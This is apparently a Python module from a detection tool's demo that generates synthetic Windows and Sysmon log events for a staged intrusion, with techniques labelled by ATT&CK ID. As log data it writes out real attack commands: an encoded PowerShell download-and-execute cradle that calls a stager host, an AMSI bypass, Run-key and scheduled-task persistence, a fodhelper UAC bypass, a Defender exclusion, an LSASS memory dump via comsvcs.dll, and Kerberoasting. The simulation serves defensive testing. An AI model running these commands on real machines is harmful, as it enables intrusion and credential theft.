"""The workstation: a document is opened, a stager stays, credentials are taken."""

from __future__ import annotations

import base64

from vedette.demo.company import DC01, DOMAIN, KELLER, OPERATOR, STAGER, WS02
from vedette.demo.intrusion.story import Story
from vedette.demo.ordinary.windows import EXPLORER, OFFICE, POWERSHELL_EXE, SYSTEM32
from vedette.demo.shapes import (
    POWERSHELL,
    SECURITY,
    Document,
    connection,
    process,
    proxied,
    sysmon,
    windows,
)

WORD = OFFICE + "WINWORD.EXE"
HELPER = f"C:\\Users\\{KELLER.name}\\AppData\\Roaming\\sync\\synchelper.exe"
CMD = SYSTEM32 + "cmd.exe"
AGENT = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.26100.2161"
DUMP = "C:\\Windows\\Temp\\d.bin"


def _runs(story: Story, image: str, line: str, parent: str, integrity: str = "Medium") -> Document:
    name = KELLER.account
    return process(WS02, story.now, story.rng, image, line, parent, name, None, integrity)


def document(story: Story) -> None:
    """An invoice that came by mail is opened, and Word starts a hidden PowerShell."""
    file = f'"{WORD}" /n "C:\\Users\\{KELLER.name}\\Downloads\\invoice_2026-11.docm"'
    opened = _runs(story, WORD, file, EXPLORER)
    story.tell("document opened", "T1204.002", opened, 15)
    script = f"IEX (New-Object Net.WebClient).DownloadString('http://{STAGER}/a')"
    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
    line = f"powershell.exe -NoP -W Hidden -Enc {encoded}"
    event = _runs(story, POWERSHELL_EXE, line, WORD)
    story.tell("stager", "T1059.001", event, 1)
    got = proxied(story.now, WS02.ip, "GET", STAGER, "/a", 200, AGENT, 210, 48211)
    story.tell("stager", "T1105", got, 2)
    blind = (
        "$t=[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils');"
        "$t.GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)"
    )
    data = {"MessageNumber": 1, "MessageTotal": 1, "ScriptBlockText": blind}
    event = windows(WS02, story.now, POWERSHELL, 4104, data)
    story.tell("stager", "T1685", event, 10)


def stay(story: Story) -> None:
    """The helper is dropped, starts at every logon, and calls home."""
    dropped = sysmon(WS02, story.now, 11, Image=POWERSHELL_EXE, TargetFilename=HELPER)
    story.tell("persistence", "T1105", dropped, 8)
    key = f"HKU\\{KELLER.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\SyncHelper"
    event = sysmon(
        WS02, story.now, 13, EventType="SetValue", Image=POWERSHELL_EXE, TargetObject=key,
        Details=HELPER,
    )  # fmt: skip
    story.tell("persistence", "T1547.001", event, 30)
    line = f'schtasks.exe /Create /F /SC ONLOGON /TN "Sync Helper" /TR {HELPER}'
    event = _runs(story, SYSTEM32 + "schtasks.exe", line, POWERSHELL_EXE)
    story.tell("persistence", "T1053.005", event, 60)
    line = "rundll32.exe C:\\Users\\Public\\sync.dll,Start"
    event = _runs(story, SYSTEM32 + "rundll32.exe", line, POWERSHELL_EXE)
    story.tell("call home", "T1218.011", event, 2)
    event = sysmon(
        WS02, story.now, 7, Image=SYSTEM32 + "rundll32.exe", Signed="false",
        ImageLoaded="C:\\Users\\Public\\sync.dll", SignatureStatus="Unavailable",
    )  # fmt: skip
    story.tell("call home", "T1574.001", event, 2)
    event = connection(
        WS02, story.now, story.rng, SYSTEM32 + "rundll32.exe", KELLER.account, OPERATOR, 443
    )
    story.tell("call home", "T1071.001", event)
    for _ in range(2):
        post = proxied(story.now, WS02.ip, "POST", "cdn.example.net", "/t", 200, None, 2211, 96)
        story.tell("call home", "T1071.001", post, 240)


def look_around(story: Story) -> None:
    """Questions about the domain."""
    for line, technique in (
        ("whoami.exe /groups", "T1033"),
        ("nltest.exe /domain_trusts", "T1482"),
        ('net.exe group "Domain Admins" /domain', "T1069.002"),
    ):
        event = _runs(story, SYSTEM32 + line.split()[0], line, CMD)
        story.tell("discovery", technique, event, 45)


def credentials(story: Story) -> None:
    """Full rights, a dump of LSASS, and a ticket to break at home."""
    key = f"HKU\\{KELLER.sid}_Classes\\ms-settings\\shell\\open\\command\\(Default)"
    event = sysmon(
        WS02, story.now, 13, EventType="SetValue", Image=SYSTEM32 + "reg.exe", TargetObject=key,
        Details=HELPER,
    )  # fmt: skip
    story.tell("elevation", "T1548.002", event, 6)
    event = _runs(story, HELPER, HELPER, SYSTEM32 + "fodhelper.exe", "High")
    story.tell("elevation", "T1548.002", event, 30)
    line = "powershell.exe Add-MpPreference -ExclusionPath C:\\Windows\\Temp"
    event = _runs(story, POWERSHELL_EXE, line, HELPER, "High")
    story.tell("credentials", "T1685", event, 20)
    line = f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 708 {DUMP} full"
    rundll32 = SYSTEM32 + "rundll32.exe"
    event = _runs(story, rundll32, line, HELPER, "High")
    story.tell("credentials", "T1003.001", event, 1)
    event = sysmon(
        WS02, story.now, 10, SourceImage=rundll32, TargetImage=SYSTEM32 + "lsass.exe",
        GrantedAccess="0x1fffff", CallTrace="C:\\Windows\\System32\\dbgcore.DLL+6ce5",
    )  # fmt: skip
    story.tell("credentials", "T1003.001", event, 1)
    event = sysmon(WS02, story.now, 11, Image=rundll32, TargetFilename=DUMP)
    story.tell("credentials", "T1003.001", event, 300)
    data = {
        "TargetUserName": f"{KELLER.name}@{DOMAIN.upper()}",
        "ServiceName": "svc-backup",
        "TicketOptions": "0x40810000",
        "TicketEncryptionType": "0x17",
        "IpAddress": f"::ffff:{WS02.ip}",
        "Status": "0x0",
    }
    event = windows(DC01, story.now, SECURITY, 4769, data)
    story.tell("credentials", "T1558.003", event)
